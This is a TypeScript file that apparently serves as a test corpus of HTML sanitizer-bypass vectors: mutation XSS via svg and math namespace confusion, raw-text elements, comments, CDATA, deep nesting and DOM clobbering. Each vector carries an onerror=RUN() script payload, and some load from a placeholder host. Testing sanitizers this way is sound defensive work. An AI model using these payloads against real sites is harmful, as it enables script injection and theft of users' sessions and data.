import { eachOf, type Markup, type VectorGroup } from './vector';

const PAYLOAD = '<img src=x onerror=RUN()>';
const HIDDEN = '&lt;img src=x onerror=RUN()&gt;';

/** Elements whose content is text in HTML and markup elsewhere. */
const TEXT_ELEMENTS: Readonly<Record<string, string>> = {
  style: 'style',
  title: 'title',
  'text area': 'textarea',
  example: 'xmp',
  'inline frame': 'iframe',
  'no embed': 'noembed',
  'no frames': 'noframes',
  'no script': 'noscript',
  script: 'script',
};

/** Places where such an element is read by other rules; what ends it there stands in an attribute. */
const PLACES: Readonly<Record<string, (name: string) => Markup>> = {
  picture: (name) => `<svg><${name}><a title="</${name}>${PAYLOAD}">`,
  formula: (name) => `<math><${name}><a title="</${name}>${PAYLOAD}">`,
  'glyph of a formula in a table': (name) =>
    `<math><mtext><table><mglyph><${name}><!--</${name}><img title="--&gt;${HIDDEN}">`,
  'formula between forms': (name) =>
    `<form><math><mtext></form><form><mglyph><${name}></math>${PAYLOAD}`,
  'description of a picture': (name) =>
    `<svg><desc><svg><${name}><a title="</${name}>${PAYLOAD}"></svg></desc></svg>`,
};

const NAMESPACES: VectorGroup = {
  name: 'confused namespace',
  vectors: {
    'paragraph out of a picture': `<svg></p><style><a title="</style>${PAYLOAD}">`,
    'line break out of a picture': `<svg><br><style><a title="</style>${PAYLOAD}">`,
    'list out of a picture': `<svg><li><style><a title="</style>${PAYLOAD}"></li></svg>`,
    'font with a colour out of a picture': `<svg><font color=x><style><a title="</style>${PAYLOAD}">`,
    'font without one in a picture': `<svg><font x=y><style><a title="</style>${PAYLOAD}">`,
    'heading out of a formula': `<math><h1><style><a title="</style>${PAYLOAD}">`,
    'table in a formula': `<math><mi><table><tr><td><style></mi><a title="</style>${PAYLOAD}">`,
    'marked glyph': `<math><mtext><mglyph><style><a title="</style>${PAYLOAD}">`,
    'aligned mark': `<math><mtext><malignmark><style><a title="</style>${PAYLOAD}">`,
    'annotation without an encoding': `<math><annotation-xml><style><a title="</style>${PAYLOAD}">`,
    'annotation in HTML': `<math><annotation-xml encoding=text/html><style><a title="</style>${PAYLOAD}">`,
    'annotation with a picture': `<math><annotation-xml><svg><style><a title="</style>${PAYLOAD}">`,
    'picture in a formula': `<math><mi><svg><mi><style><a title="</style>${PAYLOAD}">`,
    'foreign object with a formula': `<svg><foreignObject><math><mi><style><a title="</style>${PAYLOAD}">`,
    'title of a picture with a style': `<svg><title><style><a title="</style>${PAYLOAD}">`,
    'select in a formula': `<math><mtext><select><mglyph><style></select>${PAYLOAD}`,
    'option in a picture': `<svg><option><style></option>${PAYLOAD}</style></svg>`,
    'ruby in a formula': `<math><mtext><ruby><rt><mglyph><style><a title="</style>${PAYLOAD}">`,
    'link in a link': `<a><math><mtext></a><a><mglyph><style><a title="</style>${PAYLOAD}">`,
    'form in a form': `<form><div></form><form>${PAYLOAD}`,
    'table in a table': `<table><tr><td><table></td>${PAYLOAD}</table>`,
    'text put before a table': `<table>${PAYLOAD}<tr><td>x</table>`,
    'formula put before a table': `<table><math><mtext><style></table><a title="</style>${PAYLOAD}">`,
    'two bodies': '<body title=x><body onload=RUN() title=y>',
    'two documents': '<html lang=x><html onclick=RUN()><body><p FILL>x',
    'CDATA in HTML': `<![CDATA[><!--]]>${PAYLOAD}<!---->`,
    'CDATA in a picture': `<svg><![CDATA[</svg>]]>${PAYLOAD}</svg>`,
    'CDATA in the style of a picture': `<svg><style><![CDATA[</style>${PAYLOAD}]]></style></svg>`,
    'comment in the style of a picture': `<svg><style><!--</style>--><a title="--></style>${PAYLOAD}">`,
    'references in the style of a picture': `<svg><style>&lt;/style&gt;${HIDDEN}</style></svg>`,
    'references in the title of a picture': `<svg><title>&lt;/title&gt;${HIDDEN}</title></svg>`,
    'references in the example of a picture': `<svg><xmp>&lt;/xmp&gt;${HIDDEN}</xmp></svg>`,
    'reference in a text element': `<noembed>&lt;/noembed&gt;${HIDDEN}</noembed>`,
    'element with a colon': `<x:y><svg:style><a title="</svg:style>${PAYLOAD}">`,
    'attribute with a namespace':
      '<svg><a xml:base="javascript:RUN()//" href="#x"><text y=20>x</text></a></svg>',
  },
};

const TEXTS: VectorGroup = {
  name: 'confused text',
  vectors: {
    'comment that ends early': `<!-->${PAYLOAD}-->`,
    'comment that ends with a dash': `<!--->${PAYLOAD}-->`,
    'comment that ends with an exclamation': `<!-- x --!>${PAYLOAD}-->`,
    'comment that ends in a comment': `<!-- <!-- -->${PAYLOAD}-->`,
    'comment in an attribute': `<a title="<!--">x</a>${PAYLOAD}<!-- -->`,
    'comment without an end': `<p title="-->${PAYLOAD}"><!-- x`,
    'processing instruction': `<?x ?>${PAYLOAD}?>`,
    'instruction with a bracket': `<?xml version="1.0" title=">${PAYLOAD}"?>`,
    'end tag that is none': `</ x>${PAYLOAD}</>`,
    'end tag with attributes': `</p title="${PAYLOAD}"><p>x</x title=">${PAYLOAD}">`,
    'document type with a subset': `<!DOCTYPE x [<!ENTITY a "${HIDDEN}">${PAYLOAD}]>&a;`,
    'conditional comment': `<!--[if IE]>${PAYLOAD}<![endif]-->`,
    'conditional comment for all others': `<![if !IE]>${PAYLOAD}<![endif]>`,
    'conditional comment shown twice': `<!--[if !mso]><!-->${PAYLOAD}<!--<![endif]-->`,
    'conditional comment with a network image': '<![if !mso]><img src="https://HOST/a"><![endif]>',
    'no script with a style': `<noscript><style></noscript>${PAYLOAD}</style>`,
    'no script with an attribute': `<noscript><p title="</noscript>${PAYLOAD}">`,
    'no script with a comment': `<noscript><!--</noscript>${PAYLOAD}-->`,
    'no script in the head': `<head><noscript><style></noscript>${PAYLOAD}</style></head>`,
    'style with an attribute': `<style><p title="</style>${PAYLOAD}">`,
    'style with a string': `<style>a{content:"</style>${PAYLOAD}"}</style>`,
    'style with an escaped string': `<style>a{content:"\\3c/style>\\3cimg src=x onerror=RUN()>"}</style>x`,
    'style with a comment': `<style><!--</style>${PAYLOAD}--></style>`,
    'style with an escaped name': `<style>.\\3c\\/style\\3e\\3cimg{color:red}</style>${PAYLOAD}`,
    'style with a selector of a string': `<style>[a="\\3c/style>\\3cimg src onerror=RUN()>"]{color:red}</style>x`,
    'style with a medium': `<style>@media \\3c\\/style\\3e\\3cimg{b{color:red}}</style>${PAYLOAD}`,
    'style with a layer': `<style>@layer \\3c\\/style\\3e\\3cimg\\20src\\20onerror\\3dRUN\\28\\29\\3e;</style>x`,
    'style with key frames': `<style>@keyframes "\\3c/style>\\3cimg src onerror=RUN()>"{to{color:red}}</style>x`,
    'style with a property': `<style>@property --\\3c\\/style\\3e\\3cscript\\3e{syntax:"*";inherits:false}</style>${PAYLOAD}`,
    'style with a font': `<style>a{font-family:"\\3c/style>\\3cimg src onerror=RUN()>"}</style>x`,
    'style with a variable': `<style>a{--x:"\\3c/style>\\3cimg src onerror=RUN()>"}</style>x`,
    'style with a variable of markup': `<style>a{--x:<img src onerror=RUN()>}</style>${PAYLOAD}`,
    'style attribute with markup': `<p style="font-family:'&quot;>${PAYLOAD}'">x`,
    'title with markup': `<title>&lt;/title>${HIDDEN}</title><title></title>${PAYLOAD}</title>`,
    'text area with markup': `<textarea>&lt;/textarea>${HIDDEN}</textarea><textarea></textarea>${PAYLOAD}`,
    'text area with a line break': `<textarea>\n\n</textarea>${PAYLOAD}</textarea>`,
    'list of code with a line break': `<listing>\n\n</listing>${PAYLOAD}`,
    'example with markup': `<xmp><p title="</xmp>${PAYLOAD}"></xmp>`,
    'plain text': `<p title="<plaintext>">${PAYLOAD}<plaintext>`,
    'plain text in a picture': `<svg><plaintext><a title="</plaintext></svg>${PAYLOAD}">${PAYLOAD}`,
    'frame with markup': `<iframe><p title="</iframe>${PAYLOAD}"></iframe>`,
    'attribute in backticks': `<p title=\`><img src=x onerror=RUN()>\`>`,
    'attribute without quotes': `<p title=x<${PAYLOAD.slice(1)}>${PAYLOAD}`,
    'attribute in broken quotes': `<img alt="'<x" title='">${PAYLOAD}'>`,
    'attribute with an end': `<img src=x alt="&quot;>${HIDDEN}" onerror=RUN()`,
    'attribute without an end': `<p title="x>y</p>${PAYLOAD}`,
    'attribute with a strange name': `<p "=x '=y <=z ${PAYLOAD}=">${PAYLOAD}`,
    'attribute of twice decoded markup': `<p title="&amp;lt;img src=x onerror=RUN()&amp;gt;">&amp;lt;script&amp;gt;</p>${PAYLOAD}`,
    'null characters in a name':
      '<im\u0000g src=x onerror=RUN()><img src=x on\u0000error=RUN() onerror=RUN()>',
    'null characters in a tag': `<\u0000${PAYLOAD}<scr\u0000ipt>RUN()</scr\u0000ipt>`,
    'vertical tabs': '<img\u000bsrc=x\u000bonerror=RUN()><img src=x\fonerror=RUN()>',
    'letters of another alphabet':
      '<\u017fcript>RUN()</\u017fcript><img src=x onerror\u0000=x onerror=RUN()>',
    'seven-bit script':
      '<meta charset=utf-7>+ADw-script+AD4-RUN()+ADw-/script+AD4-<img src=x onerror=RUN()>',
    'slashes for spaces': '<img/src=x/onerror=RUN()>',
    'quotes for spaces': '<img src="x"onerror="RUN()">',
    'three quotes': `<img """>${PAYLOAD}">`,
    'lone brackets': `<<<img src=x onerror=RUN()>>>`,
    template: `<template><style></template>${PAYLOAD}</style>`,
    'template in a template': `<template><template></template>${PAYLOAD}</template>${PAYLOAD}`,
    'template with a table': `<template><tr><td><style><p title="</style>${PAYLOAD}"></template>${PAYLOAD}`,
    'select with a text element': `<select><style>${PAYLOAD}</style></select>`,
    'select with an input': `<select><input>${PAYLOAD}`,
    'select in a table': `<table><tr><td><select><tr>${PAYLOAD}</select></table>`,
    'math in a select': `<select><math><mtext></select>${PAYLOAD}`,
    'button in a button': `<button><p></button><button>${PAYLOAD}`,
    'end of a body before more': `</body></html>${PAYLOAD}<!-- </body> -->`,
    'end of a style before the document': `</style></title></head><body>${PAYLOAD}`,
    'language with a quote': `<html lang='"><script>RUN()</script>' dir='"><svg onload=RUN()>'><body>${PAYLOAD}`,
    'body with a quote': `<body title='"><script>RUN()</script>' class='--></style>${PAYLOAD}'>${PAYLOAD}`,
  },
};

const nested = (open: string, times: number, close = ''): string => open.repeat(times) + close;

/** Chromium's parser flattens what is nested more than 512 deep. */
const DEPTHS: VectorGroup = {
  name: 'nesting',
  vectors: {
    'of blocks': nested('<div>', 600, PAYLOAD),
    'of blocks around a picture': nested(
      '<div>',
      508,
      `<svg><style><a title="</style>${PAYLOAD}">`,
    ),
    'of blocks around a title': nested('<p><b>', 255, `<svg><title><a title="</title>${PAYLOAD}">`),
    'of formatting': nested('<b><i>', 300, PAYLOAD),
    'of links': nested('<a href="#x"><div>', 260, PAYLOAD),
    'of tables': nested('<table><tr><td>', 180, PAYLOAD),
    'of lists': nested('<ul><li>', 260, PAYLOAD),
    'of pictures': nested('<svg><g>', 260, `<style><a title="</style>${PAYLOAD}">`),
    'of formulas': nested('<math><mrow>', 260, `<mtext><style><a title="</style>${PAYLOAD}">`),
    'of foreign objects': nested('<svg><foreignObject>', 200, PAYLOAD),
    'of fonts': nested('<font color=red><p>', 260, PAYLOAD),
    'of forms': nested('<form><div></form>', 300, PAYLOAD),
    'of unknown elements': nested('<x>', 2_000, PAYLOAD),
    'of open shadow trees': nested('<p><template shadowrootmode=open>', 100, PAYLOAD),
    'of ends': `${nested('</p>', 900)}${nested('</br>', 900)}${PAYLOAD}`,
    'of comments': `${nested('<!--', 900)}-->${PAYLOAD}`,
    'of attributes': `<img ${Array.from({ length: 900 }, (_, index) => `a${index}=x`).join(' ')} src=x onerror=RUN()>`,
    'of rules':
      nested('<style>', 1, `${nested('@media all{', 150)}p{background:url(https://HOST/a)}`) +
      '</style><p>x',
    'of nested rules':
      nested('<style>', 1, `${nested('&{', 100)}p{background:url(https://HOST/a)}`) +
      '</style><p>x',
    'of selectors': `<style>${nested(':is(', 90)}p${')'.repeat(90)}{background:url(https://HOST/a)}</style><p>x`,
    'of functions': `<p style="background:${nested('var(--n,', 90)}url(https://HOST/a)${')'.repeat(90)}">x`,
  },
};

/** Names of an element's own properties, which named fields of a form stand in for. */
const CLOBBERED = [
  ...['attributes', 'childNodes', 'firstChild', 'parentNode', 'nodeName', 'nodeType'],
  ...['textContent', 'removeChild', 'removeAttribute', 'setAttribute', 'getAttribute'],
  ...['insertBefore', 'namespaceURI', 'content', 'ownerDocument', 'hasChildNodes'],
];

const CLOBBERING: VectorGroup = {
  name: 'stand-in',
  vectors: {
    ...Object.fromEntries(
      CLOBBERED.map((name) => [
        `for ${name}`,
        `<form onclick=RUN() FILL><input name=${name}>x${PAYLOAD}</form>`,
      ]),
    ),
    'for parts of the document': `<img name=body><img name=head><img name=documentElement><img name=defaultView>${PAYLOAD}`,
    'for methods of the document': `<img name=addEventListener><img name=querySelector><img name=getElementById>${PAYLOAD}`,
    'for the implementation': `<form id=implementation name=createHTMLDocument></form>${PAYLOAD}`,
    'for a collection': `<a id=x></a><a id=x name=y href="cid:javascript:RUN()"></a>${PAYLOAD}`,
    'for what a page trusts':
      '<a id=trustedTypes></a><a id=DOMPurify name=sanitize></a><img src=x onerror=RUN()>',
    'for the link of the view':
      '<a data-link="https://HOST/" href="#" FILL>x</a><img src=x onerror=RUN()>',
  },
};

export const MUTATIONS: readonly VectorGroup[] = [
  { name: 'text element', vectors: eachOf(TEXT_ELEMENTS, PLACES) },
  NAMESPACES,
  TEXTS,
  DEPTHS,
  CLOBBERING,
];
